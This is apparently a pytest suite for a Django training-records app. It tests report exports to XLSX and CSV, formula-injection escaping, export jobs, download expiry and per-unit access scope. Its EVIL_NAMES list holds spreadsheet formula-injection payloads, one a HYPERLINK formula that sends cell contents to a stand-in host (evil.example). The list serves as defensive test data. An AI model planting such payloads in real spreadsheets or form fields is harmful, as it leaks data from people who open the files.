"""Exports of the report tables: contents, formula injection, jobs, downloads, scope."""

import csv
import io
import os
import tracemalloc
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from django.db.models.query import QuerySet
from django.urls import reverse
from django.utils import timezone

from cms.storage import PrivateFileSystemStorage
from courses.models import HourRequirement, Position, TrainingPolicy
from courses.models.roles import Role
from courses.services.records.aggregate import records_refresh_stale
from courses.services.records.facts import stale_mark
from courses.services.records.manual import hours_adjust
from courses.services.records.policy import current_training_year
from reports import exports
from reports.exports import (
    FORMULA_STARTS,
    PROGRESS_EVERY,
    cell_safe,
    export_job_process,
    export_job_request,
    export_write,
    exports_sweep,
)
from reports.models import ExportJob
from reports.selectors import ReportFilters, filters_from_params, report_table
from tests.factories import LearnerFactory, UserFactory

CREATE = reverse("reports:export_create")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _private_media(monkeypatch, tmp_path):
    """Each test writes its exports to its own directory (job ids are reused)."""
    field = ExportJob._meta.get_field("file")
    monkeypatch.setattr(
        field, "storage", PrivateFileSystemStorage(location=tmp_path / "private")
    )


def detail_url(job) -> str:
    return reverse("reports:export_detail", args=[job.pk])


def download_url(job) -> str:
    return reverse("reports:export_download", args=[job.pk])


@pytest.fixture
def figures(province, people, bureau_admin):
    """Requirement 4 h for everyone; F1-B1 has 3.5 h and F2-B1 10 h by hand."""
    year = current_training_year(learner=people["F1-B1"])
    policy = TrainingPolicy.objects.create(bureau=province["B"])
    for position in Position.objects.all():
        HourRequirement.objects.create(
            policy=policy, position=position, hours=Decimal("4")
        )
    hours_adjust(
        learner=people["F1-B1"],
        hours=Decimal("3.5"),
        reason="集中轮训",
        by=bureau_admin,
    )
    hours_adjust(
        learner=people["F2-B1"], hours=Decimal("10"), reason="集中轮训", by=bureau_admin
    )
    stale_mark(learner_ids=[learner.pk for learner in people.values()])
    records_refresh_stale()
    return {"year": year}


def filters_for(user, **params) -> ReportFilters:
    return filters_from_params(params, user=user)


def xlsx_rows(data: bytes, sheet: int = 0) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    rows = [list(row) for row in book.worksheets[sheet].iter_rows(values_only=True)]
    width = max((len(row) for row in rows), default=0)
    # Read-only mode leaves out empty cells at the end of a row.
    return [row + [None] * (width - len(row)) for row in rows]


def plain(value):
    """A report value as openpyxl reads it back: numbers as numbers."""
    if isinstance(value, Decimal):
        return float(value)
    return value


def written(kind, fmt, *, user, unit, filters=None) -> bytes:
    out = io.BytesIO()
    export_write(
        kind=kind,
        user=user,
        unit=unit,
        filters=filters or filters_for(user),
        fmt=fmt,
        out=out,
    )
    return out.getvalue()


def job_dir(job) -> Path:
    return exports._job_dir(job.pk)


def run_now(job) -> ExportJob:
    export_job_process(job_id=job.pk)
    job.refresh_from_db()
    return job


# ---- the files ----


@pytest.mark.parametrize("kind", ["learners", "rollup", "positions"])
def test_xlsx_has_chinese_headers_and_the_report_figures(
    kind, province, bureau_admin, figures
):
    filters = filters_for(bureau_admin)
    headers, rows = report_table(
        kind, user=bureau_admin, unit=province["B"], filters=filters
    )
    expected = [[plain(v) for v in row] for row in rows]
    sheet = xlsx_rows(
        written(kind, "xlsx", user=bureau_admin, unit=province["B"], filters=filters)
    )
    assert sheet[0] == headers
    assert sheet[1:] == expected
    assert expected, "the report has rows"
    if kind == "learners":
        assert headers[:2] == ["编号", "姓名"] and "学时" in headers
        by_name = {row[1]: row for row in sheet[1:]}
        hours = headers.index("学时")
        assert by_name["F1-B1的学员"][hours] == 3.5
        assert by_name["F2-B1的学员"][hours] == 10
        assert by_name["F1-B1的学员"][headers.index("应修学时")] == 4
    if kind == "rollup":
        assert headers[0] == "单位" and sheet[-1][0] == "某省戒毒管理局 合计"
        assert sheet[-1][headers.index("人数")] == 4


def test_xlsx_says_what_it_is_on_a_second_sheet(province, bureau_admin, figures):
    data = written("learners", "xlsx", user=bureau_admin, unit=province["F1"])
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert book.sheetnames == ["人员名单与学时", "导出说明"]
    about = dict(xlsx_rows(data, sheet=1))
    assert about["单位"] == "第一强制隔离戒毒所（F1）"
    assert about["报表"] == "人员名单与学时"
    assert about["培训年度"] == str(figures["year"])
    assert about["行数"] == 2


def test_csv_is_utf8_with_bom_chinese_headers_and_the_report_figures(
    province, bureau_admin, figures
):
    filters = filters_for(bureau_admin)
    headers, rows = report_table(
        "learners", user=bureau_admin, unit=province["B"], filters=filters
    )
    expected = [["" if v is None else str(v) for v in row] for row in rows]
    data = written("learners", "csv", user=bureau_admin, unit=province["B"])
    assert data.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == headers
    assert table[1:] == expected
    by_name = {row[1]: row for row in table[1:]}
    assert by_name["F2-B1的学员"][headers.index("学时")] in ("10", "10.0", "10.00")


def test_filters_apply_to_the_export(province, bureau_admin, figures, people):
    filters = filters_for(bureau_admin, identity="volunteer")
    sheet = xlsx_rows(
        written(
            "learners", "xlsx", user=bureau_admin, unit=province["B"], filters=filters
        )
    )
    assert len(sheet) == 1, "only the header: nobody is a volunteer"


# ---- formula injection ----


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_cell_safe_neutralises_every_formula_start(name):
    assert cell_safe(name) == "'" + name
    assert cell_safe("张三") == "张三"
    assert cell_safe(Decimal("-1.5")) == Decimal("-1.5") and cell_safe(-3) == -3
    assert cell_safe(None) is None
    assert all(cell_safe(start + "x").startswith("'") for start in FORMULA_STARTS)


def test_a_learner_named_like_a_formula_is_text_in_xlsx_and_csv(
    province, bureau_admin, figures
):
    for index, name in enumerate(EVIL_NAMES):
        LearnerFactory(unit=province["F1-B1"], real_name=name, id_number=f"=X{index}")
    data = written("learners", "xlsx", user=bureau_admin, unit=province["F1"])
    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: cell types
    sheet = book.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    name_col, hours_col = headers.index("姓名") + 1, headers.index("学时") + 1
    names = {}
    for row in range(2, sheet.max_row + 1):
        cell = sheet.cell(row=row, column=name_col)
        assert cell.data_type == "s", "a string, never a formula"
        names[cell.value] = sheet.cell(row=row, column=hours_col)
    for name in EVIL_NAMES:
        # XML reads a CR back as LF; what matters is the apostrophe first.
        assert "'" + name.replace("\r", "\n") in names
    assert names["F1-B1的学员"].value == 3.5
    assert names["F1-B1的学员"].data_type == "n", "numbers stay numbers"
    assert not any(
        cell.data_type == "f" for row in sheet.iter_rows() for cell in row
    ), "no formula anywhere in the file"

    data = written("learners", "csv", user=bureau_admin, unit=province["F1"])
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in table for cell in row]
    for name in EVIL_NAMES:
        assert "'" + name in cells and name not in cells
    assert "'=X0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


# ---- progress and memory ----


def fake_table(count: int):
    headers = ["编号", "姓名", "学时"]

    def rows():
        for n in range(count):
            yield [f"J{n:07d}", f"学员{n}", Decimal(n % 50) / 2]

    return headers, rows()


def test_progress_is_recorded_every_thousand_rows_not_every_row(
    monkeypatch, province, bureau_admin
):
    monkeypatch.setattr(exports, "report_table", lambda *a, **k: fake_table(2500))
    calls = []
    count = export_write(
        kind="learners",
        user=bureau_admin,
        unit=province["B"],
        filters=ReportFilters(year=2026),
        fmt="csv",
        out=io.BytesIO(),
        progress=calls.append,
    )
    assert PROGRESS_EVERY == 1000
    assert count == 2500 and calls == [1000, 2000, 2500]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_writer_memory_does_not_grow_with_the_number_of_rows(
    monkeypatch, province, bureau_admin, fmt, tmp_path
):
    def peak(count: int) -> int:
        monkeypatch.setattr(exports, "report_table", lambda *a, **k: fake_table(count))
        with open(tmp_path / f"out-{count}.{fmt}", "wb") as out:
            tracemalloc.start()
            export_write(
                kind="learners",
                user=bureau_admin,
                unit=province["B"],
                filters=ReportFilters(year=2026),
                fmt=fmt,
                out=out,
            )
            _current, top = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return top

    peak(200)  # warm up imports and caches
    small, large = peak(1000), peak(10000)
    assert large < small * 2 + 512 * 1024, (small, large)


def test_people_rows_are_read_from_the_database_in_chunks(
    monkeypatch, province, bureau_admin, figures
):
    seen = []
    iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        seen.append(chunk_size)
        return iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    written("learners", "xlsx", user=bureau_admin, unit=province["B"])
    assert seen and all(size and size <= 5000 for size in seen)


# ---- the job ----


def test_export_requested_from_the_report_runs_and_downloads(
    client, province, bureau_admin, figures, django_capture_on_commit_callbacks
):
    client.force_login(bureau_admin)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(
            CREATE,
            {"kind": "learners", "unit": "F1", "fmt": "xlsx", "year": figures["year"]},
        )
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == detail_url(job)
    assert len(callbacks) == 1, "enqueued once, after the job is committed"
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    assert (job.rows_done, job.rows_total) == (2, 2)
    assert job.params == {"year": [str(figures["year"])]}
    assert job.expires_at - job.finished_at == timedelta(hours=24)
    assert job.file.name == f"exports/{job.pk}/export-{job.pk}.xlsx"

    page = client.get(detail_url(job))
    assert page.status_code == 200
    assert download_url(job) in page.content.decode()

    status = client.get(reverse("reports:export_status", args=[job.pk])).json()
    assert status["finished"] and status["percent"] == 100
    assert status["download_url"] == download_url(job)

    response = client.get(download_url(job))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(job.filename, safe='')}" in disposition
    assert job.filename.startswith("第一强制隔离戒毒所-人员名单与学时-")
    assert "private" in response["Cache-Control"]
    data = b"".join(response.streaming_content)
    sheet = xlsx_rows(data)
    assert sheet[0][:2] == ["编号", "姓名"] and len(sheet) == 3

    listing = client.get(reverse("reports:export_list"))
    assert listing.status_code == 200 and detail_url(job) in listing.content.decode()


def test_csv_download_has_csv_content_type(
    client, province, bureau_admin, figures, django_capture_on_commit_callbacks
):
    client.force_login(bureau_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(CREATE, {"kind": "rollup", "unit": "B", "fmt": "csv"})
    job = ExportJob.objects.get()
    response = client.get(download_url(job))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert job.filename.endswith(".csv")
    assert b"".join(response.streaming_content).startswith("\ufeff单位".encode())


def test_the_same_export_twice_at_once_is_one_job(client, province, bureau_admin):
    client.force_login(bureau_admin)
    post = {"kind": "learners", "unit": "F1", "fmt": "xlsx", "year": "2026"}
    # The task is not run (no on-commit here): the first job is still pending.
    first = client.post(CREATE, post)
    second = client.post(CREATE, {**post, "position": ""})
    job = ExportJob.objects.get()
    assert first["Location"] == second["Location"] == detail_url(job)
    # Another format, unit or filter is another export.
    client.post(CREATE, {**post, "fmt": "csv"})
    client.post(CREATE, {**post, "identity": "officer"})
    assert ExportJob.objects.count() == 3


def test_duplicate_is_refused_by_the_database_and_the_service_returns_it(
    province, bureau_admin
):
    filters = ReportFilters(year=2026)
    args = {"user": bureau_admin, "kind": "rollup", "unit": province["B"]}
    job, created = export_job_request(**args, filters=filters, fmt="xlsx")
    again, created_again = export_job_request(**args, filters=filters, fmt="xlsx")
    assert created and not created_again and again.pk == job.pk
    # Once finished, the same export can be asked for again.
    ExportJob.objects.filter(pk=job.pk).update(status=ExportJob.Status.DONE)
    fresh, created = export_job_request(**args, filters=filters, fmt="xlsx")
    assert created and fresh.pk != job.pk


def test_someone_elses_export_is_404(client, province, bureau_admin, make_role_user):
    job = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="rollup",
        unit=province["B"],
        params={"year": ["2026"]},
        params_hash="x",
    )
    run_now(job)
    assert job.status == ExportJob.Status.DONE
    other = make_role_user(Role.BUREAU_ADMIN, "B", username="another-bureau-admin")
    client.force_login(other)
    for name in ("export_download", "export_detail", "export_status"):
        assert client.get(reverse(f"reports:{name}", args=[job.pk])).status_code == 404
    assert (
        detail_url(job)
        not in client.get(reverse("reports:export_list")).content.decode()
    )
    client.force_login(bureau_admin)
    assert client.get(download_url(job)).status_code == 200


def test_an_expired_download_is_410_with_a_chinese_message(
    client, province, bureau_admin
):
    job = ExportJob.objects.create(
        requested_by=bureau_admin, kind="rollup", unit=province["B"], params_hash="x"
    )
    run_now(job)
    ExportJob.objects.filter(pk=job.pk).update(
        expires_at=timezone.now() - timedelta(minutes=1)
    )
    client.force_login(bureau_admin)
    response = client.get(download_url(job))
    assert response.status_code == 410
    assert "下载链接已过期" in response.content.decode()
    # The sweep deletes the file; the link stays refused.
    counts = exports_sweep()
    job.refresh_from_db()
    assert counts["expired"] == 1 and not job.file
    assert not job_dir(job).exists(), list(job_dir(job).iterdir())
    assert client.get(download_url(job)).status_code == 410


def test_a_download_before_the_file_is_ready_goes_to_the_job_page(
    client, province, bureau_admin
):
    job = ExportJob.objects.create(
        requested_by=bureau_admin, kind="rollup", unit=province["B"], params_hash="x"
    )
    client.force_login(bureau_admin)
    response = client.get(download_url(job))
    assert response.status_code == 302 and response["Location"] == detail_url(job)
    page = client.get(detail_url(job)).content.decode()
    assert 'role="progressbar"' in page and "aria-valuemin" in page
    assert 'http-equiv="refresh"' in page, "works without JavaScript"
    assert reverse("reports:export_status", args=[job.pk]) in page


def test_progress_bar_shows_rows_done(client, province, bureau_admin):
    job = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="learners",
        unit=province["B"],
        params_hash="x",
        status=ExportJob.Status.RUNNING,
        rows_done=1500,
        rows_total=6000,
    )
    client.force_login(bureau_admin)
    page = client.get(detail_url(job)).content.decode()
    assert 'aria-valuenow="25"' in page and "1500 / 6000" in page
    status = client.get(reverse("reports:export_status", args=[job.pk])).json()
    assert status == {
        "id": job.pk,
        "status": "running",
        "status_label": "导出中",
        "percent": 25,
        "done": 1500,
        "total": 6000,
        "finished": False,
        "error": "",
        "download_url": None,
    }


def test_a_failing_writer_fails_the_job_with_a_message_and_no_file(
    monkeypatch, client, province, bureau_admin
):
    def broken(*, out, **kwargs):
        out.write(b"PK\x03\x04 half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(exports, "export_write", broken)
    job = ExportJob.objects.create(
        requested_by=bureau_admin, kind="rollup", unit=province["B"], params_hash="x"
    )
    run_now(job)
    assert job.status == ExportJob.Status.FAILED
    assert "导出时发生系统错误" in job.error and not job.file
    assert list(job_dir(job).iterdir()) == [], "no partial file left"
    client.force_login(bureau_admin)
    assert client.get(download_url(job)).status_code == 302
    assert "导出时发生系统错误" in client.get(detail_url(job)).content.decode()


def test_a_job_for_a_unit_no_longer_in_scope_fails_with_a_message(
    province, make_role_user
):
    admin = make_role_user(Role.FACILITY_ADMIN, "F1")
    job = ExportJob.objects.create(
        requested_by=admin, kind="rollup", unit=province["F2"], params_hash="x"
    )
    run_now(job)
    assert job.status == ExportJob.Status.FAILED and "无权" in job.error


def test_a_retry_after_a_crash_leaves_one_complete_file(province, bureau_admin):
    job = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="rollup",
        unit=province["B"],
        params={"year": ["2026"]},
        params_hash="x",
        status=ExportJob.Status.RUNNING,
        attempts=1,
        started_at=timezone.now(),
    )
    # The worker that ran it was killed half-way: its partial file is left.
    job_dir(job).mkdir(parents=True, exist_ok=True)
    (job_dir(job) / f"export-{job.pk}.xlsx.dead.part").write_bytes(b"PK half")
    run_now(job)  # the broker delivers the task again (acks_late)
    assert job.status == ExportJob.Status.DONE and job.attempts == 2
    files = list(job_dir(job).iterdir())
    assert [f.name for f in files] == [f"export-{job.pk}.xlsx"]
    assert xlsx_rows(files[0].read_bytes())[0][0] == "单位"

    finished, mtime = job.finished_at, os.stat(files[0]).st_mtime_ns
    run_now(job)  # delivered once more: a finished job is left alone
    assert job.finished_at == finished and job.attempts == 2
    assert os.stat(files[0]).st_mtime_ns == mtime


def test_a_job_killed_too_often_is_given_up(province, bureau_admin):
    job = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="rollup",
        unit=province["B"],
        params_hash="x",
        status=ExportJob.Status.RUNNING,
        attempts=exports.MAX_ATTEMPTS,
    )
    run_now(job)
    assert job.status == ExportJob.Status.FAILED and "多次中断" in job.error


def test_the_sweep_fails_stuck_jobs_and_removes_their_partial_files(
    province, bureau_admin
):
    long_ago = timezone.now() - exports.STUCK_AFTER - timedelta(minutes=1)
    stuck = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="rollup",
        unit=province["B"],
        params_hash="stuck",
        status=ExportJob.Status.RUNNING,
        started_at=long_ago,
        heartbeat_at=long_ago,
    )
    alive = ExportJob.objects.create(
        requested_by=bureau_admin,
        kind="rollup",
        unit=province["B"],
        params_hash="alive",
        status=ExportJob.Status.RUNNING,
        started_at=long_ago,
        heartbeat_at=timezone.now(),
    )
    never = ExportJob.objects.create(
        requested_by=bureau_admin, kind="rollup", unit=province["B"], params_hash="n"
    )
    ExportJob.objects.filter(pk=never.pk).update(
        created_at=timezone.now() - exports.PENDING_MAX - timedelta(minutes=1)
    )
    job_dir(stuck).mkdir(parents=True, exist_ok=True)
    (job_dir(stuck) / "export.xlsx.abc.part").write_bytes(b"half")
    counts = exports_sweep()
    assert counts["stuck"] == 1 and counts["not_started"] == 1
    for job in (stuck, alive, never):
        job.refresh_from_db()
    assert stuck.status == ExportJob.Status.FAILED and "中断" in stuck.error
    assert never.status == ExportJob.Status.FAILED and "排队超时" in never.error
    assert alive.status == ExportJob.Status.RUNNING
    assert list(job_dir(stuck).glob("*.part")) == []
    # A task delivered again after the sweep gave the job up does nothing.
    run_now(stuck)
    assert stuck.status == ExportJob.Status.FAILED


def test_export_tasks_are_registered_for_retry_on_worker_loss():
    from reports.tasks import export_run, exports_sweep

    assert export_run.name == "reports.export_run"
    assert export_run.acks_late and export_run.reject_on_worker_lost
    assert exports_sweep.name == "reports.exports_sweep"


# ---- scope and bad input ----


def test_a_unit_outside_scope_is_404(client, province, facility_admin):
    client.force_login(facility_admin)
    for code in ("F2", "B", "NOPE", ""):
        response = client.post(CREATE, {"kind": "rollup", "unit": code, "fmt": "xlsx"})
        assert response.status_code == 404, code
    assert (
        client.post(
            CREATE, {"kind": "rollup", "unit": "F1-B1", "fmt": "xlsx"}
        ).status_code
        == 302
    )
    assert not ExportJob.objects.exclude(unit=province["F1-B1"]).exists()


def test_without_the_report_capability_is_403(client, province, make_role_user):
    trainer = make_role_user(Role.TRAINER, "F1")
    learner = UserFactory()
    for user in (trainer, learner):
        client.force_login(user)
        response = client.post(CREATE, {"kind": "rollup", "unit": "F1", "fmt": "xlsx"})
        assert response.status_code == 403
        assert client.get(reverse("reports:export_list")).status_code == 403
    assert not ExportJob.objects.exists()


def test_anonymous_is_sent_to_log_in(client, province):
    response = client.post(CREATE, {"kind": "rollup", "unit": "F1"})
    assert response.status_code == 302 and "login" in response["Location"]


def test_create_accepts_only_post(client, province, bureau_admin):
    client.force_login(bureau_admin)
    assert client.get(CREATE).status_code == 405


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"year": "9999"}, "超出可统计的范围"),
        ({"from": "2026-05-01", "to": "2026-03-01"}, "开始日期晚于结束日期"),
        ({"position": "no-such-post"}, "没有这个岗位"),
        ({"from": "yesterday"}, "不是有效日期"),
        ({"kind": "pie"}, "没有这种报表"),
        ({"fmt": "pdf"}, "没有这种导出格式"),
    ],
)
def test_bad_input_gets_a_chinese_message_and_no_job(
    client, province, bureau_admin, extra, message
):
    client.force_login(bureau_admin)
    post = {"kind": "learners", "unit": "F1", "fmt": "xlsx", **extra}
    response = client.post(CREATE, post)
    assert response.status_code == 400
    body = response.content.decode()
    assert message in body and 'role="alert"' in body
    assert reverse("reports:unit_people", args=["F1"]) in body or extra.get("kind")
    assert not ExportJob.objects.exists()
